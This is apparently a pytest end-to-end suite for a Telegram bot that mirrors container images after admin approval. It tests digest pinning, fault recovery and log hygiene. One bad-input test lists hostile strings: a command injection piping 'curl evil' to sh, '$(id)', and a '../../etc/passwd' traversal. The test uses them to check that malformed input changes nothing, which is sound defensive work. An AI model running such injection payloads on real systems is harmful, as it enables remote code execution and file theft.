"""The whole product: the real process, real git, act, skopeo and registries.

People act through the sandbox's API, and the tests check what people see.
"""

import os
import re
import signal
import subprocess
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from sandbox_process import COMMAND, Sandbox, start, stop

pytestmark = pytest.mark.e2e


@pytest.fixture(scope="module")
def s(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
    sandbox = start(tmp_path_factory.mktemp("sandbox"))
    yield sandbox
    if sandbox.process.poll() is None:
        assert stop(sandbox) == set()


def _ended_runs(s: Sandbox, sha: str) -> list[dict[str, Any]]:
    runs = s.repository()["runs"]
    return [run for run in runs if run["sha"] == sha and run["conclusion"] is not None]


def test_an_approved_image_arrives_whole_by_one_commit_and_its_own_run(s: Sandbox) -> None:
    asked = s.whisper("wei", "/mirror docker.io/library/nginx:1.27")
    result = s.result(asked, "Done, 1 of 1")
    target = f"{s.target()}/docker.io/library/nginx:1.27"
    assert f"docker pull {target}" in result["text"]
    assert result["buttons"][0][0]["kind"] == "copy"
    (commit,) = [c for c in s.repository()["commits"] if "nginx:1.27" in c["message"]]
    assert re.search(
        r"^Batch: [0-9a-f]{16}\nTime: [0-9TZ:-]+\nImage: docker.io/library/nginx:1.27@sha256:"
        r"[0-9a-f]{64}; asked p:[0-9a-f]{8}; approved rule docker.io/library/\*\*\n"
        r"Seal: [0-9a-f]{64}$",
        commit["message"],
        re.MULTILINE,
    )
    (run,) = s.until(lambda: _ended_runs(s, commit["sha"]))  # a moment after its last status
    assert (run["event"], run["conclusion"]) == ("push", "success")
    assert re.search(r"copied docker\.io/library/nginx:1\.27 .* s, rule ", run["log"]), run["log"]
    assert s.digests("target")[target] == s.digests("source")["docker.io/library/nginx:1.27"]
    card = s.card(asked, "digest verified")
    assert "looking it up" in card["history"][0]
    assert card["edits"] == len(card["history"])
    assert len(s.answers(asked)) == 2


def test_only_the_admin_decides_and_later_presses_hear_who_did(s: Sandbox) -> None:
    asked = s.say("wei", "/mirror gcr.io/distroless/static:nonroot")
    card = s.card(asked, "waits for an admin")
    assert re.search(r"\d platforms", card["text"])
    for who in ("mallory", "wei"):
        assert "Only an admin can do this." in s.press(who, card, "Approve")
    assert "waits for an admin" in s.answers(asked)[0]["text"]
    assert s.press("ana", card, "Approve") == "#2: 1 image approved."
    again = s.api.post("/api/press", json={"as": "ana", "message": card["id"], "button": "Approve"})
    # The card's buttons may be gone by now. The command gets the same answer.
    assert again.status_code == 404 or again.json()["answer"] == "Already approved by Ana."
    number = s.say("ana", "/approve #2")
    assert s.until(lambda: s.answers(number))[0]["text"] == "Already approved by Ana."
    s.result(asked, "Done, 1 of 1")
    assert "Approved by Ana." in s.answers(asked)[0]["text"]


def test_the_approved_digest_is_copied_although_its_tag_was_updated_since(s: Sandbox) -> None:
    image = "ghcr.io/stefanprodan/podinfo:6.7.0"
    asked = s.say("wei", f"/mirror {image}")
    card = s.card(asked, "waits for an admin")
    approved = s.digests("source")[image]
    assert approved[:19] in card["text"]
    assert s.move(image) != approved
    assert s.press("ana", card, "Approve").endswith("1 image approved.")
    s.result(asked, "Done, 1 of 1")
    assert s.digests("target")[f"{s.target()}/{image}"] == approved
    assert s.digests("source")[image] != approved
    (commit,) = [c for c in s.repository()["commits"] if "podinfo" in c["message"]]
    assert f"Image: {image}@{approved}; " in commit["message"]


def test_the_command_approves_as_the_button_does(s: Sandbox) -> None:
    asked = s.say("li", "/mirror bitnami/nginx:1.27")
    card = s.card(asked, "waits for an admin")
    number = re.match(r"#(\d+)", card["text"])
    assert number is not None
    s.say("ana", f"/approve #{number[1]}")
    s.result(asked, "Done, 1 of 1")


def test_a_missing_image_is_said_before_anything_is_committed(s: Sandbox) -> None:
    before = len(s.repository()["commits"])
    asked = s.whisper("wei", "/mirror redis:7 redis:no-such-tag")
    s.card(asked, "not found at the source")
    assert len(s.repository()["commits"]) == before
    result = s.result(asked, "Partly done, 1 of 2")
    assert "docker.io/library/redis:7" in result["text"]
    assert "redis:no-such-tag" in result["text"]
    assert "no-such-tag" not in s.repository()["list"]


def test_two_people_who_ask_for_the_same_get_one_copy_and_two_answers(s: Sandbox) -> None:
    runs = len(s.repository()["runs"])
    asked = [s.say(who, "/mirror nginx:1.26") for who in ("wei", "li")]
    for number in asked:
        s.result(number, "Done, 1 of 1")
    state = s.repository()
    assert state["list"].count("docker.io/library/nginx:1.26") == 1
    assert len(state["runs"]) == runs + 1


def test_an_image_that_is_there_is_told_without_a_commit(s: Sandbox) -> None:
    commits = len(s.repository()["commits"])
    asked = s.whisper("wei", "/mirror nginx:1.27")
    s.card(asked, "was already there, same digest")
    s.result(asked, "Done, 1 of 1")
    assert len(s.repository()["commits"]) == commits


@pytest.mark.parametrize(
    "text",
    [
        "/mirror nginx;curl evil|sh",
        "/mirror $(id)",
        "/mirror " + "😀" * 1000,
        "/mirror docker.io/library/ng\n:inx",
        "/mirror ../../etc/passwd",
        "/mirror --help",
        "/mirror Nginx",
        "/mirror localhost:5000/x",
        "/mirror",
        "/approve me",
    ],
)
def test_bad_input_is_answered_in_words_and_changes_nothing(s: Sandbox, text: str) -> None:
    before = s.repository()
    assert len(s.answer("wei", text)) > 20
    assert s.repository()["list"] == before["list"]
    assert len(s.repository()["commits"]) == len(before["commits"])


def test_a_killed_bot_answers_once_after_it_is_started_again(s: Sandbox) -> None:
    s.fault(where="target", what="delay 4", path="POST /v2/")
    asked = s.whisper("wei", "/mirror busybox")
    s.card(asked, "copying")
    bot = s.bot()
    assert bot is not None
    os.kill(bot, signal.SIGKILL)
    s.until(lambda: s.bot() not in {bot, None})
    s.result(asked, "Done, 1 of 1")
    time.sleep(3)
    assert len(s.answers(asked)) == 2


def test_a_commit_whose_answer_is_lost_is_not_made_twice(s: Sandbox) -> None:
    s.fault(where="github", what="lost", path="PUT /github/repos")
    before = len(s.repository()["commits"])
    asked = s.whisper("wei", "/mirror alpine:3.20")
    s.result(asked, "Done, 1 of 1")
    assert len(s.repository()["commits"]) == before + 1


def test_a_run_that_never_appears_is_asked_for(s: Sandbox) -> None:
    s.fault(where="actions", what="no-run")
    asked = s.whisper("wei", "/mirror nginx:latest")
    s.result(asked, "Done, 1 of 1")
    assert "workflow_dispatch" in {run["event"] for run in s.repository()["runs"]}


def test_telegram_in_trouble_delays_the_answer_and_loses_nothing(s: Sandbox) -> None:
    s.fault(where="telegram", what="retry-after 2", path="sendMessage")
    s.fault(where="telegram", what="status 502", path="getUpdates", times=2)
    assert s.answer("wei", "/status")


def test_status_and_whoami_and_help_answer(s: Sandbox) -> None:
    for text, words in (
        ("/whoami", "Your id: 1001"),
        ("/help", "/mirror IMAGE…"),
        ("/status nginx:1.27", "docker pull"),
        ("/status", "Your requests:"),
    ):
        assert words in s.answer("wei", text)


def test_the_log_holds_no_secret_and_no_traceback(s: Sandbox) -> None:
    log = s.log()
    assert "Traceback" not in log
    assert "7000000001:" not in log
    assert "github_pat_" not in log


def test_a_port_in_use_is_one_line_and_no_traceback(s: Sandbox) -> None:
    port = s.address.rpartition(":")[2]
    done = subprocess.run(
        [COMMAND, "sandbox", "--port", port],
        capture_output=True,
        text=True,
        timeout=90,
        check=False,
    )
    assert done.returncode == 1
    assert f"port {port} on 127.0.0.1 cannot be used" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.sweep
def test_the_demo_ends_well_beside_another_sandbox_and_leaves_nothing_behind(
    s: Sandbox, tmp_path: Path
) -> None:
    data = tmp_path / "demo"
    done = subprocess.run(
        [COMMAND, "demo", "--data", str(data)],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    for words in ("/mirror nginx:1.27", "[taps Approve]", "Batch: ", "copied docker.io/library/"):
        assert words in done.stdout
    assert "All as it should be." in done.stdout
    assert not [line for line in commands() if str(data) in line]
    assert s.answer("wei", "/whoami")


def commands() -> list[str]:
    """Return the command lines of all processes."""
    found = []
    for entry in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):  # it has just ended
            found.append(entry.read_text(errors="replace"))
    return found
